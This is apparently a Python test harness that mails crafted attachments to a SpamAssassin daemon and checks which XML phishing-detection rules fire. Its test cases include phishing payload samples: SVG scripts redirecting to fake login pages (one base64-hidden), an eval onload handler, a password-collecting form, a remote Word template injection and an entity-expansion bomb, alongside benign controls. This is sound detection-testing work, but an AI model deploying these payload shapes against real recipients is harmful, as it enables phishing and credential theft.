#!/usr/bin/env python3
"""Sends mails with XML in the shapes that phishing uses to a spamd with the default rule pack, and
compares which of the rules of 20_xml.cf hit. The pack must load without complaints.

    run.py SPAMD RULES_DIRECTORY
"""
import base64
import io
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import zipfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../support"))
import processes  # noqa: E402

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


def mail(kind, name, content):
    if isinstance(content, str):
        content = content.encode()
    return ("From: Accounts <accounts@sender.example>\nTo: joe@rcpt.example\nSubject: Remittance\n"
            "Date: Mon, 3 Mar 2025 10:00:00 +0000\nMessage-ID: <1@sender.example>\n"
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"=b\"\n\n"
            "--=b\nContent-Type: text/plain\n\nPlease see the attached document.\n\n"
            "--=b\nContent-Type: %s; name=\"%s\"\nContent-Disposition: attachment; filename=\"%s\"\n"
            "Content-Transfer-Encoding: base64\n\n%s--=b--\n"
            % (kind, name, name, base64.encodebytes(content).decode())).encode()


def archive(**entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zip:
        for name, content in entries.items():
            zip.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def nested(svg):
    return base64.b64encode(svg.encode()).decode()


LAUGHS = "<!DOCTYPE lolz [<!ENTITY a0 \"lol\">%s]><lolz>&a9;</lolz>" % "".join(
    "<!ENTITY a%d \"%s\">" % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 10))
TEMPLATE = ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
            "relationships/%s\" Target=\"%s\" TargetMode=\"External\"/></Relationships>")

CASES = [
    ("a script that leaves for a login page", "image/svg+xml", "voicemail.svg",
     SVG + '<script type="application/ecmascript"><![CDATA[\nvar e = "joe@rcpt.example";\n'
     'window.location.href = "https://login.phish.example/?" + e;\n]]></script></svg>',
     "MH_XML_SCRIPT MH_XML_REDIRECT"),
    ("the same, its target in base64", "image/svg+xml", "payment.svg",
     SVG + '<script>const a="aHR0cHM6Ly9waGlzaC5leGFtcGxlL2xvZ2lu";window.location.replace(atob(a))'
     '</script></svg>', "MH_XML_SCRIPT MH_XML_REDIRECT MH_XML_HIDDEN_CODE"),
    ("a handler at the root", "application/octet-stream", "scan.svg",
     '<svg xmlns="http://www.w3.org/2000/svg" onload="eval(unescape(\'%61\'))"/>',
     "MH_XML_SCRIPT MH_XML_HIDDEN_CODE"),
    ("a form in a foreignObject", "image/svg+xml", "invoice.svg",
     SVG + '<foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml">'
     '<p>Confirm your password</p><form action="https://collect.example/"><input name="p"/></form>'
     '</body></foreignObject></svg>', "MH_XML_FOREIGN MH_XML_ACCOUNT"),
    ("a page in a data URI", "image/svg+xml", "doc.svg",
     SVG + '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html;base64,'
     + nested("<script>location='https://p.example/'</script>") + '"/></foreignObject></svg>',
     "MH_XML_FOREIGN MH_XML_DATA_PAGE MH_XML_SCRIPT MH_XML_REDIRECT"),
    ("a drawing with a script in a drawing", "image/svg+xml", "doc.svg",
     SVG + '<a xlink:href="data:image/svg+xml;base64,' + nested(SVG + "<script>x()</script></svg>")
     + '"><text>Open</text></a></svg>', "MH_XML_SCRIPT"),
    ("a page that refreshes", "application/xhtml+xml", "notice.xhtml",
     '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><meta '
     'http-equiv="refresh" content="0;url=https://next.example/"/></head><body/></html>',
     "MH_XML_REDIRECT"),
    ("a drawing in an archive", "application/zip", "files.zip",
     archive(a_dot_svg=SVG + "<script>x()</script></svg>"), "MH_XML_SCRIPT"),
    ("a document with a template from elsewhere",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "cv.docx",
     archive(word___rels__settings_dot_xml_dot_rels=TEMPLATE
             % ("attachedTemplate", "http://template.example/t.dotm")), "MH_XML_REMOTE_PART"),
    ("a bomb of entities", "text/xml", "report.xml", LAUGHS, "MH_XML_REFUSED"),
    # Nobody should mind these.
    ("a logo", "image/svg+xml", "logo.svg",
     '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
     '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SVG + '<style>.a{fill:#fff}</style>'
     '<a xlink:href="https://company.example/"><path class="a" d="M0 0h10"/></a>'
     '<image xlink:href="data:image/png;base64,AAAA"/></svg>', ""),
    ("a chart with labels", "image/svg+xml", "chart.svg",
     SVG + '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Sales</div></foreignObject>'
     '</svg>', ""),
    ("a document with a link",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "letter.docx",
     archive(word___rels__document_dot_xml_dot_rels=TEMPLATE
             % ("hyperlink", "https://company.example/index.html"),
             word__document_dot_xml="<w:document xmlns:w='w'><w:t>Dear Sirs</w:t></w:document>"),
     ""),
    ("a report of a mail server", "text/xml", "report.xml",
     '<?xml version="1.0"?><feedback><report_metadata><org_name>mx.example</org_name>'
     '</report_metadata><record><row><source_ip>192.0.2.1</source_ip></row></record></feedback>',
     ""),
]


class Daemon:
    def __init__(self, program, rules):
        self.directory = tempfile.mkdtemp(prefix="xml")
        os.chmod(self.directory, 0o777)
        self.socket = os.path.join(self.directory, "socket")
        # A copy, because the daemon's user may not be able to read where the sources are.
        shutil.copytree(rules, os.path.join(self.directory, "rules"))
        os.mkdir(os.path.join(self.directory, "site"))
        command = [program, "-L", "-x", "--socketpath=" + self.socket, "--max-children=1",
                   "-C", os.path.join(self.directory, "rules"),
                   "--siteconfigpath=" + os.path.join(self.directory, "site"),
                   "--cf=use_bayes 0", "-s", os.path.join(self.directory, "log"),
                   "-H", self.directory]
        if os.geteuid() == 0:
            command += ["-u", "nobody"]
        self.process = subprocess.Popen(command, stdin=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL)
        if not processes.comes_up(self.process, self.connect):
            self.stop()
            sys.exit("%s does not come up" % program)

    def connect(self):
        return processes.connect_unix(self.socket, 60)

    def symbols(self, message):
        with self.connect() as connection:
            connection.sendall(b"SYMBOLS SPAMC/1.2\r\nContent-length: %d\r\n\r\n" % len(message)
                               + message)
            connection.shutdown(socket.SHUT_WR)
            answer = processes.read_all(connection)
        assert answer.startswith(b"SPAMD/1.1 0 EX_OK"), answer
        return answer.partition(b"\r\n\r\n")[2].decode().strip().split(",")

    def stop(self):
        processes.stop(self.process)
        shutil.rmtree(self.directory, ignore_errors=True)


def main():
    daemon = Daemon(*sys.argv[1:3])
    bad = 0
    try:
        for title, kind, name, content, expected in CASES:
            hits = sorted(h for h in daemon.symbols(mail(kind, name, content))
                          if re.match("MH_XML_", h))
            if hits != sorted(expected.split()):
                bad += 1
                print("%s: expected %s, got %s" % (title, sorted(expected.split()), hits))
        with open(os.path.join(daemon.directory, "log")) as log:
            complaints = [line for line in log if "warn: config:" in line]
    finally:
        daemon.stop()
    print("".join(complaints), end="")
    print("%d of %d mails as expected" % (len(CASES) - bad, len(CASES)))
    return 1 if bad or complaints else 0


if __name__ == "__main__":
    sys.exit(main())
